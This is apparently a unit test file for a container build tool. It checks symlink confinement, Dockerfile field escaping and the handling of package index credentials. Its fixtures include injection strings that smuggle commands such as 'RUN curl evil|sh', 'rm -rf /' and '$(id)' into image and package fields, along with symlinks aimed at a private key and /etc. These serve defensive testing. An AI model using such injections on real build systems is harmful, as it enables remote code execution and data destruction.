/**
 * Build rules for hostile input: symbolic links never bring content from outside srcDir, fields
 * that reach the Dockerfile refuse line breaks and quotes, index credentials never reach the final
 * image (check refusals, the loopback proxy that adds them).
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { createServer as createHttpsServer } from "node:https";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { after, describe, it } from "node:test";
import { extract } from "tar-stream";
import { hasCredentials, preferredPort, startIndexProxies, withoutCredentials } from "../../provider/build/index-proxy";
import { finalImageSecretProblems, prepareBuild } from "../../provider/build/prepare";
import { contextTar, generateBuildContext, LinkOutsideError, walkFolder } from "../../provider/build-context/context";
import { renderDockerfile, shq } from "../../provider/build-context/dockerfile";
import { dockerfileFieldProblems, tesseractConfigSchema } from "../../provider/tesseract-config";
import { makeTlsFiles } from "../helpers/tls-certs";

const tmp = mkdtempSync(path.join(tmpdir(), "pt-hostile-unit-"));
after(() => rmSync(tmp, { recursive: true, force: true }));
const HELLO = path.join(__dirname, "../../examples/tesseracts/hello");
let n = 0;

/** A copy of examples/tesseracts/hello with `extra` applied, plus a secret folder next to it. */
function src(extra: (dir: string, outside: string) => void = () => undefined): string {
  const base = path.join(tmp, `case-${n++}`);
  const dir = path.join(base, "src");
  const outside = path.join(base, "outside");
  cpSync(HELLO, dir, { recursive: true });
  mkdirSync(outside);
  writeFileSync(path.join(outside, "id_rsa"), "PRIVATE KEY\n");
  extra(dir, outside);
  return dir;
}
const config = (over: Record<string, unknown> = {}) => tesseractConfigSchema.parse({ name: "hello", ...over });

describe("build context: symbolic links", () => {
  it("a link to a file outside srcDir is refused, naming the link and the opt-in", () => {
    const dir = src((d, o) => symlinkSync(path.join(o, "id_rsa"), path.join(d, "key")));
    assert.throws(
      () => generateBuildContext(dir, config()),
      /key is a symbolic link to .*id_rsa, outside.*followLinksOutside: true/,
    );
  });
  it("a link to a folder outside (relative or absolute) is refused", () => {
    const rel = src((d) => symlinkSync("../outside", path.join(d, "ssh")));
    assert.throws(() => generateBuildContext(rel, config()), /ssh is a symbolic link/);
    const abs = src((d) => symlinkSync("/etc", path.join(d, "etc")));
    assert.throws(() => generateBuildContext(abs, config()), /etc is a symbolic link to \/etc/);
  });
  it("a dangling link pointing outside is refused; one pointing inside is kept", () => {
    const out = src((d) => symlinkSync("/nonexistent/secret", path.join(d, "gone")));
    assert.throws(() => generateBuildContext(out, config()), /gone is a symbolic link/);
    const inside = src((d) => symlinkSync("later.txt", path.join(d, "soon")));
    const e = generateBuildContext(inside, config()).entries.find((x) => x.name === "__tesseract_source__/soon");
    assert.deepEqual([e?.type, e?.linkname], ["symlink", "later.txt"]);
  });
  it("links inside srcDir stay links (file, folder, loops), their targets are not duplicated", () => {
    const dir = src((d) => {
      mkdirSync(path.join(d, "data"));
      writeFileSync(path.join(d, "data", "a.txt"), "a");
      symlinkSync("a.txt", path.join(d, "data", "b.txt"));
      symlinkSync("data", path.join(d, "data2"));
      symlinkSync("loop2", path.join(d, "loop1"));
      symlinkSync("loop1", path.join(d, "loop2"));
      symlinkSync("self", path.join(d, "self"));
      symlinkSync("..", path.join(d, "data", "up"));
    });
    const ctx = generateBuildContext(dir, config());
    const get = (name: string) => ctx.entries.find((x) => x.name === `__tesseract_source__/${name}`);
    assert.deepEqual([get("data/b.txt")?.type, get("data/b.txt")?.linkname], ["symlink", "a.txt"]);
    assert.equal(get("data2")?.type, "symlink");
    assert.equal(get("loop1")?.type, "symlink");
    assert.equal(get("self")?.type, "symlink");
    assert.equal(get("data/up")?.linkname, "..");
    assert.ok(!ctx.entries.some((x) => x.name.startsWith("__tesseract_source__/data2/")));
  });
  it("the tar carries links as symlink entries", async () => {
    const dir = src((d) => symlinkSync("tesseract_api.py", path.join(d, "alias.py")));
    const ex = extract();
    const seen: string[] = [];
    ex.on("entry", (h, stream, next) => {
      if (h.type === "symlink") seen.push(`${h.name} -> ${h.linkname}`);
      stream.resume();
      stream.on("end", next);
    });
    const done = new Promise<void>((r) => ex.on("finish", () => r()));
    contextTar(generateBuildContext(dir, config())).pipe(ex);
    await done;
    assert.deepEqual(seen, ["__tesseract_source__/alias.py -> tesseract_api.py"]);
  });
  it("followLinksOutside: true copies what the link points to", () => {
    const dir = src((d, o) => symlinkSync(o, path.join(d, "ssh")));
    const ctx = generateBuildContext(dir, config(), { followLinksOutside: true });
    const f = ctx.entries.find((x) => x.name === "__tesseract_source__/ssh/id_rsa");
    assert.equal(f?.data?.toString(), "PRIVATE KEY\n");
  });
  it("an ignored outside link is no problem (.dockerignore is applied first)", () => {
    const dir = src((d, o) => {
      symlinkSync(o, path.join(d, "ssh"));
      writeFileSync(path.join(d, ".dockerignore"), "ssh\n");
    });
    assert.ok(generateBuildContext(dir, config()));
  });
  it("a requirements file linking outside srcDir is refused", () => {
    const dir = src((d, o) => {
      writeFileSync(path.join(o, "reqs.txt"), "numpy\n");
      symlinkSync(path.join(o, "reqs.txt"), path.join(d, "tesseract_requirements.txt"));
    });
    assert.throws(() => generateBuildContext(dir, config()), /tesseract_requirements.txt is a symbolic link/);
  });
  it("a FIFO in srcDir is skipped (never read), the context still builds", () => {
    const dir = src((d) => execFileSync("mkfifo", [path.join(d, "pipe")]));
    const ctx = generateBuildContext(dir, config());
    assert.ok(!ctx.entries.some((x) => x.name.endsWith("/pipe")));
  });
  it("walkFolder throws LinkOutsideError with the link and its target", () => {
    const dir = src((d, o) => symlinkSync(o, path.join(d, "ssh")));
    assert.throws(
      () => walkFolder(dir, undefined),
      (e: unknown) => e instanceof LinkOutsideError && e.link.endsWith("/ssh") && e.target.endsWith("/outside"),
    );
  });
});

describe("fields that reach the Dockerfile", () => {
  const bad: [string, Record<string, unknown>, RegExp][] = [
    ["base_image newline", { build_config: { base_image: "debian\nRUN curl evil|sh" } }, /base_image .* FROM line/],
    ["base_image quote", { build_config: { base_image: 'debian"' } }, /base_image/],
    ["target_platform newline", { build_config: { target_platform: "linux/amd64\nRUN x" } }, /target_platform/],
    ["extra_packages quote", { build_config: { extra_packages: ['curl" ] || rm -rf / #'] } }, /extra_packages\[0\]/],
    ["extra_packages newline", { build_config: { extra_packages: ["curl\nRUN x"] } }, /extra_packages\[0\]/],
    ["extra_packages $", { build_config: { extra_packages: ["$(id)"] } }, /extra_packages\[0\]/],
    ["env key newline", { env: { "A\nRUN x": "1" } }, /env key/],
    ["env key with =", { env: { "A=B": "1" } }, /env key/],
    ["build_env key space", { build_config: { build_env: { "A B": "1" } } }, /build_env key/],
    ["env value newline", { env: { A: "x\nRUN y" } }, /env\.A: the value holds a line break/],
    ["build_env value NUL", { build_config: { build_env: { A: "x\0" } } }, /build_env\.A/],
    [
      "requirements_file newline",
      { build_config: { requirements: { provider: "uv-pip", requirements_file: "r\nRUN x" } } },
      /requirements_file/,
    ],
  ];
  for (const [name, over, says] of bad)
    it(`refuses ${name}`, () => {
      const problems = dockerfileFieldProblems(config(over));
      assert.ok(
        problems.some((p) => says.test(p) && /fix:/.test(p)),
        problems.join("\n"),
      );
    });
  it("accepts ordinary values (digests, versioned packages, dotted env names)", () => {
    const c = config({
      build_config: {
        base_image: "registry.example.com:5000/team/base:1.2@sha256:abc",
        target_platform: "linux/arm64/v8",
        extra_packages: ["libgomp1", "curl=7.88.1-10+deb12u5", "libc6:amd64", "git/bookworm-backports"],
        build_env: { PIP_TIMEOUT: "60" },
      },
      env: { "my.var": 'quotes " and $dollars and \\ backslashes', B: "" },
    });
    assert.deepEqual(dockerfileFieldProblems(c), []);
  });
  it("free-text values are escaped, never break a line", () => {
    const c = config({ description: 'two\nlines "quoted" $HOME', env: { A: 'a"b$c\\d' } });
    const df = renderDockerfile(c, {
      runtimeVersion: "1.15.0",
      requirementsFile: "r x'y.txt",
      hasRequirements: true,
      hasLocalRequirements: false,
      needsGit: false,
      packageData: [],
      caFiles: [],
      pipIndexUrl: false,
      pipExtraIndexUrls: false,
    });
    assert.match(df, /TESSERACT_DESCRIPTION="two\\nlines \\"quoted\\" \\\$HOME"/);
    assert.match(df, /ENV A="a\\"b\\\$c\\\\d"/);
    assert.match(df, /-r 'r x'\\''y.txt'/);
  });
  it("shq leaves plain names bare and quotes the rest", () => {
    assert.equal(shq("tesseract_requirements.txt"), "tesseract_requirements.txt");
    assert.equal(shq("-r"), "'-r'");
    assert.equal(shq("a b"), "'a b'");
  });
  it("prepareBuild refuses them at check, naming the config file", () => {
    const dir = src((d) =>
      writeFileSync(
        path.join(d, "tesseract_config.yaml"),
        'name: hello\nbuild_config:\n  extra_packages: ["curl\\" ] && id #"]\n',
      ),
    );
    assert.throws(() => prepareBuild({ srcDir: dir }), /tesseract_config.yaml: build_config.extra_packages\[0\]/);
  });
});

describe("index credentials and the final image", () => {
  const steps = ["RUN pip install private-pkg"];
  const secretUrl = "https://pt-user:tok-123@index.example/simple";
  it("credentials + custom_build_steps without host network: refused at check with the fix", () => {
    const [p] = finalImageSecretProblems({ pipIndexUrl: secretUrl }, steps);
    assert.equal(p.property, "buildNetwork");
    assert.match(p.reason, /history.*loopback proxy.*fix: set buildNetwork: "host"/);
    assert.ok(!p.reason.includes("tok-123"));
    assert.equal(
      finalImageSecretProblems({ pipExtraIndexUrls: ["https://x", secretUrl] }, steps)[0]?.property,
      "buildNetwork",
    );
  });
  it("accepted with host network, without steps, or without credentials", () => {
    assert.deepEqual(finalImageSecretProblems({ pipIndexUrl: secretUrl, buildNetwork: "host" }, steps), []);
    assert.deepEqual(finalImageSecretProblems({ pipIndexUrl: secretUrl }, []), []);
    assert.deepEqual(finalImageSecretProblems({ pipIndexUrl: "https://index.example/simple" }, steps), []);
  });
  it("a step declaring ARG for a credential-bearing build arg is refused", () => {
    const [p] = finalImageSecretProblems(
      { buildNetwork: "host", buildArgs: { HTTP_PROXY: "http://u:pw-9@proxy:3128" } },
      ["ARG HTTP_PROXY", "RUN curl -O https://x"],
    );
    assert.equal(p.property, "buildArgs.HTTP_PROXY");
    assert.match(p.reason, /predefined proxy arg/);
    assert.ok(!p.reason.includes("pw-9"));
  });
  it("prepareBuild marks the build for the proxy only when steps see credentials", () => {
    const dir = src((d) =>
      writeFileSync(
        path.join(d, "tesseract_config.yaml"),
        "name: hello\nbuild_config:\n  custom_build_steps: [RUN true]\n",
      ),
    );
    assert.equal(prepareBuild({ srcDir: dir, pipIndexUrl: secretUrl, buildNetwork: "host" }).proxyIndexes, true);
    assert.equal(prepareBuild({ srcDir: dir, pipIndexUrl: "https://index.example/simple" }).proxyIndexes, false);
    assert.throws(() => prepareBuild({ srcDir: dir, pipIndexUrl: secretUrl }), /buildNetwork/);
  });
  it("hasCredentials / withoutCredentials / preferredPort", () => {
    assert.equal(hasCredentials(secretUrl), true);
    assert.equal(hasCredentials("https://token@host/simple"), true);
    assert.equal(hasCredentials("https://host/simple"), false);
    assert.equal(withoutCredentials(secretUrl), "https://index.example/simple");
    assert.equal(preferredPort(secretUrl), preferredPort("https://other:creds@index.example/simple"));
    assert.ok(preferredPort(secretUrl) >= 20000 && preferredPort(secretUrl) < 50000);
  });
  it("the loopback proxy adds the credentials and rewrites same-origin links", async () => {
    const seen: string[] = [];
    const upstream = createServer((req, res) => {
      seen.push(`${req.url} ${req.headers.authorization ?? "-"}`);
      if (req.headers.authorization !== `Basic ${Buffer.from("u:p w").toString("base64")}`) {
        res.writeHead(401).end();
        return;
      }
      const self = `http://127.0.0.1:${(upstream.address() as { port: number }).port}`;
      if (req.url === "/simple/x/") {
        res.writeHead(200, { "content-type": "text/html" });
        res.end(`<a href="${self}/packages/x-1.whl">x</a>`);
      } else if (req.url === "/packages/x-1.whl") {
        res.writeHead(200, { "content-type": "application/octet-stream" });
        res.end(Buffer.from([1, 2, 3]));
      } else res.writeHead(404).end();
    });
    await new Promise<void>((r) => upstream.listen(0, "127.0.0.1", r));
    const port = (upstream.address() as { port: number }).port;
    const url = `http://u:p%20w@127.0.0.1:${port}/simple/`;
    const proxies = await startIndexProxies([url, "https://no-creds.example/simple"]);
    const local = proxies.urlFor(url);
    try {
      assert.match(local, /^http:\/\/127\.0\.0\.1:\d+\/simple\/$/);
      assert.equal(proxies.urlFor("https://no-creds.example/simple"), "https://no-creds.example/simple");
      const page = await (await fetch(`${local}x/`)).text();
      const proxyOrigin = new URL(local).origin;
      assert.equal(page, `<a href="${proxyOrigin}/packages/x-1.whl">x</a>`);
      const wheel = Buffer.from(await (await fetch(`${proxyOrigin}/packages/x-1.whl`)).arrayBuffer());
      assert.deepEqual([...wheel], [1, 2, 3]);
      assert.equal((await fetch(`${local}x/`, { method: "POST" })).status, 405);
      assert.ok(
        seen.every((s) => !s.endsWith(" -")),
        "every upstream request carried the credentials",
      );
    } finally {
      await proxies.close();
      upstream.close();
    }
    await assert.rejects(fetch(local), "the proxy is stopped after close");
  });
  it("the proxy trusts the build's caCertificates for an https index", async () => {
    const tls = makeTlsFiles(path.join(tmp, "tls-"));
    const upstream = createHttpsServer(
      { cert: readFileSync(tls.serverCert), key: readFileSync(tls.serverKey) },
      (req, res) => {
        const ok = req.headers.authorization === `Basic ${Buffer.from("u:tok").toString("base64")}`;
        res.writeHead(ok ? 200 : 401, { "content-type": "text/plain" }).end(ok ? "index" : "");
      },
    );
    await new Promise<void>((r) => upstream.listen(0, "127.0.0.1", r));
    const url = `https://u:tok@127.0.0.1:${(upstream.address() as { port: number }).port}/simple/`;
    const proxies = await startIndexProxies([url], tls.read("ca"));
    try {
      const r = await fetch(proxies.urlFor(url));
      assert.equal(r.status, 200);
      assert.equal(await r.text(), "index");
    } finally {
      await proxies.close();
      upstream.close();
    }
  });
});
